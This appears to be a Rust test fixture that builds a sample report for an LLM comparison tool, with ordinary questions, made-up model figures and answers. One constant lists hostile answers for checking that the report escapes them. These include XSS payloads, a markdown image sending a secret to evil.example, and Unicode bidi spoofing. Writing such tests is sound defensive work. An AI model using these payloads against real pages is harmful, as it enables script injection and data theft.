//! A run as the report shows it: some ordinary questions, and answers that try to be more than text.

use std::io;

use llmx::compare::State;
use llmx::compare::check::{Outcome, Verdict};
use llmx::compare::report::{ModelFigures, Pair, ReportAnswer, ReportHead, ReportRow, Section, Totals, Transcript};
use llmx::money::Usd;

pub const MODELS: [&str; 4] =
    ["anthropic/claude-sonnet-5", "openai/gpt-5.6-luna", "google/gemini-3.7-flash", "local/tiny"];

/// Answers that a page must not obey. `window.hit` would tell.
pub const HOSTILE: [&str; 8] = [
    "<script>window.hit = 1; alert(1)</script>",
    "</script><script>window.hit = 2; alert(2)</script><!-- <script>",
    "<img src=x onerror=\"window.hit = 3\"><svg onload=\"window.hit = 4\">",
    "![picture](https://evil.example/steal?secret=1) [press](javascript:window.hit=5)",
    "the invoice is \u{202e}fdp.exe\u{202c}, with \u{1b}[31mred\u{1b}[0m, a null \u{0} and a z\u{200b}ero width space",
    "<style>body { display: none }</style><base href=\"https://evil.example/\"><meta http-equiv=refresh content=0>",
    "{{constructor.constructor('window.hit = 6')()}} ${window.hit = 7} \u{2028} \u{2029} ]]> --> &lt;b&gt; &amp;",
    "<iframe srcdoc=\"<script>parent.hit = 8</script>\"></iframe><a href=\"https://evil.example\">a link</a>",
];

/// A question, what the good models say, and in which words another says it.
const QUESTIONS: [(&str, &str, &str); 6] = [
    (
        "Why does Rust prevent data races at compile time? Answer in three sentences.",
        "Rust prevents data races at compile time. A value has either one mutable reference or many shared ones, and the borrow \
         checker holds every use to that. `Send` and `Sync` then say which types may cross from one thread to another.",
        "Rust stops data races at compile time: a value has many readers or one writer, and the borrow checker holds every use to \
         that. The traits `Send` and `Sync` mark the types that may cross threads.",
    ),
    (
        "In which year did the first node of the network go online, and where? Give the year first.",
        "1969. The first node stood at the University of California in Los Angeles; the second followed a month later \
         in Menlo Park.",
        "1971, at the University of California in Los Angeles. A second node came a month later in Menlo Park.",
    ),
    (
        "Write a commit message for: the cache forgot its oldest entry first, now it forgets the least used one.",
        "cache: evict the least used entry\n\nThe oldest entry is often the one most in use, so throwing it out first made every \
         second look-up miss. Count the uses and evict by them.",
        "Change cache eviction from FIFO to LFU\n\n- count uses of each entry\n- evict the least used entry\n- add \
         tests",
    ),
    (
        "Is a tomato a fruit? Answer yes or no, then give one reason.",
        "Yes. It grows from the flower of the plant and holds its seeds, which is what botany calls a fruit.",
        "Yes, botanically: it develops from the ovary of a flower and contains seeds.",
    ),
    (
        "Give the three largest moons of Jupiter as JSON with the keys name and radius_km.",
        "[\n  {\"name\": \"Ganymede\", \"radius_km\": 2634},\n  {\"name\": \"Callisto\", \"radius_km\": 2410},\n  \
         {\"name\": \"Io\", \"radius_km\": 1822}\n]",
        "```json\n[{\"name\": \"Ganymede\", \"radius_km\": 2634}, {\"name\": \"Callisto\", \"radius_km\": 2410}, \
         {\"name\": \"Io\", \"radius_km\": 1822}]\n```",
    ),
    (
        "Translate into German: the parcel arrives on Thursday if the bridge is open.",
        "Das Paket kommt am Donnerstag an, wenn die Brücke offen ist.",
        "Das Paket wird am Donnerstag ankommen, falls die Brücke geöffnet ist.",
    ),
];

/// A number that looks like chance, from 0 to 1.
fn chance(row: usize, of: usize) -> f64 {
    let mut bits =
        (row as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ (of as u64 + 7).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    bits = (bits ^ (bits >> 31)).wrapping_mul(0x94d0_49bb_1331_11eb);
    ((bits ^ (bits >> 29)) >> 11) as f64 / (1_u64 << 53) as f64
}

/// The head of a run over `models` of the sample's.
pub fn head(models: usize) -> ReportHead {
    let rates = [
        (0.94, 3_120.0, 620.0, "2.604"),
        (0.91, 1_210.0, 310.0, "0.2592"),
        (0.86, 1_600.0, 480.0, "1.224"),
        (0.41, 240.0, 35.0, "0"),
    ];
    let figures = |at: usize| {
        let (rate, total, first, cost) = rates[at];
        ModelFigures {
            name: MODELS[at].to_owned(),
            whole: 1184,
            failed: [2, 0, 9, 0][at],
            truncated: [6, 3, 0, 16][at],
            refused: [8, 13, 7, 0][at],
            passed: [1128, 1092, 1032, 492][at],
            checked: 1200,
            interval: Some((rate - 0.018, rate + 0.014)),
            agreement: Some([0.62, 0.64, 0.58, 0.21][at]),
            first_ms: Some(first),
            total_ms: Some(total),
            deviation_ms: Some(total * 0.12),
            tokens_per_second: Some([82.0, 157.4, 186.0, 312.0][at]),
            input: Some(76_800),
            output: Some([244_800, 205_200, 312_000, 98_000][at]),
            reasoning: Some([0, 115_200, 49_200, 0][at]),
            cost: Usd::parse(cost),
            note: ["", "price of 2026-07-30", "", "runs here"][at].to_owned(),
        }
    };
    let agreement =
        [[1.0, 0.71, 0.63, 0.24], [0.71, 1.0, 0.66, 0.21], [0.63, 0.66, 1.0, 0.19], [0.24, 0.21, 0.19, 1.0]];
    ReportHead {
        title: "Which model writes our answers?".to_owned(),
        command: format!(
            "llmx compare -f questions.jsonl -m {} --seed 7 --repeat 1 -o report.html",
            MODELS[..models].join(" -m ")
        ),
        created: "2026-11-22T16:04:00Z".parse().expect("a time"),
        prices: "2026-11-20".to_owned(),
        seed: "7".to_owned(),
        models: (0..models).map(figures).collect(),
        baseline: 0,
        checks: vec!["contains:the".to_owned(), "max-time:5s".to_owned()],
        totals: Totals { cost: Usd::parse("4.0872"), cost_unknown: 0, wall_ms: Some(254_000.0) },
        agreement: agreement[..models].iter().map(|line| line[..models].iter().copied().map(Some).collect()).collect(),
        disagree_below: 0.4,
        pairs: pairs(),
        notes: vec!["11 of 3,600 requests failed; they count as no answer, never as a low score.".to_owned()],
    }
}

fn pairs() -> Vec<Pair> {
    let pair = |second, result: &str, test: &str, verdict: &str, told| Pair {
        first: 0,
        second,
        measure: "checks passed".to_owned(),
        result: result.to_owned(),
        test: test.to_owned(),
        verdict: verdict.to_owned(),
        told,
    };
    vec![
        pair(1, "48 better, 36 worse, 1,116 equal", "exact McNemar, p = 0.23 after Holm", "no difference shown", false),
        pair(
            2,
            "121 better, 25 worse, 1,054 equal",
            "exact McNemar, p < 0.0001 after Holm",
            "claude-sonnet-5 is better",
            true,
        ),
    ]
}

/// The rows, made as they are asked for; every seventh has a hostile answer, every eleventh a failed one, every
/// thirteenth has regressed.
pub fn rows(count: usize, models: usize) -> impl Iterator<Item = io::Result<ReportRow>> {
    (0..count).map(move |at| Ok(row(at, models)))
}

fn row(at: usize, models: usize) -> ReportRow {
    let (prompt, ..) = QUESTIONS[at % QUESTIONS.len()];
    let judged = Transcript {
        title: "judge: the first against the second".to_owned(),
        outcome: "tie, the verdict flipped with the order".to_owned(),
        duel: None,
        sections: vec![
            Section {
                title: "first, then second".to_owned(),
                text: "A. It is <b>shorter</b> and says the same.".to_owned(),
            },
            Section { title: "second, then first".to_owned(), text: "A again: it names the year.".to_owned() },
        ],
    };
    ReportRow {
        id: format!("q{:05}", at + 1),
        prompt: prompt.to_owned(),
        system: Some("You answer shortly.".to_owned()),
        variables: vec![("language".to_owned(), "English".to_owned())],
        answers: (0..models).map(|model| answer(at, model)).collect(),
        differences: if at % QUESTIONS.len() == 1 { vec!["years: 1969, 1971".to_owned()] } else { Vec::new() },
        transcripts: if at % 4 == 2 { vec![judged] } else { Vec::new() },
    }
}

fn answer(at: usize, model: usize) -> ReportAnswer {
    let (_, good, other) = QUESTIONS[at % QUESTIONS.len()];
    let text = match model {
        2 if at % 7 == 3 => HOSTILE[at / 7 % HOSTILE.len()].to_owned(),
        0 => good.to_owned(),
        1 => other.to_owned(),
        2 => format!("{} {}", good, ["In short.", "That is all there is to it.", ""][at % 3]),
        _ => "I do not know that, but I like the question.".to_owned(),
    };
    let state = match model {
        1 if at % 11 == 4 => State::Failed { class: "rate_limit".to_owned(), message: "429 after 3 tries".to_owned() },
        2 if at % 17 == 5 => State::Truncated,
        _ => State::Whole,
    };
    let failed = matches!(state, State::Failed { .. });
    let total = [3_120.0, 1_210.0, 1_600.0, 240.0][model] * (0.5 + chance(at, model) * chance(at, model + 9) * 3.0);
    let passed = chance(at, model + 20) < [0.94, 0.91, 0.86, 0.41][model];
    let verdict = |check: &str, passed: bool| Verdict {
        check: check.to_owned(),
        outcome: if passed { Outcome::Passed } else { Outcome::Failed },
        reason: if passed { String::new() } else { "not found in the answer".to_owned() },
        score: None,
    };
    ReportAnswer {
        model,
        repeat: 0,
        state,
        text: if failed { String::new() } else { text },
        first_ms: Some(total * 0.2),
        total_ms: Some(total),
        input: Some(64),
        output: Some(204 - 30 * model as u64),
        reasoning: Some(0),
        cost: Usd::parse(["0.00217", "0.000216", "0.00102", "0"][model]),
        similarity: None,
        verdicts: if failed { Vec::new() } else { vec![verdict("contains:the", passed), verdict("max-time:5s", true)] },
        regressed: model == 2 && at % 13 == 6,
    }
}
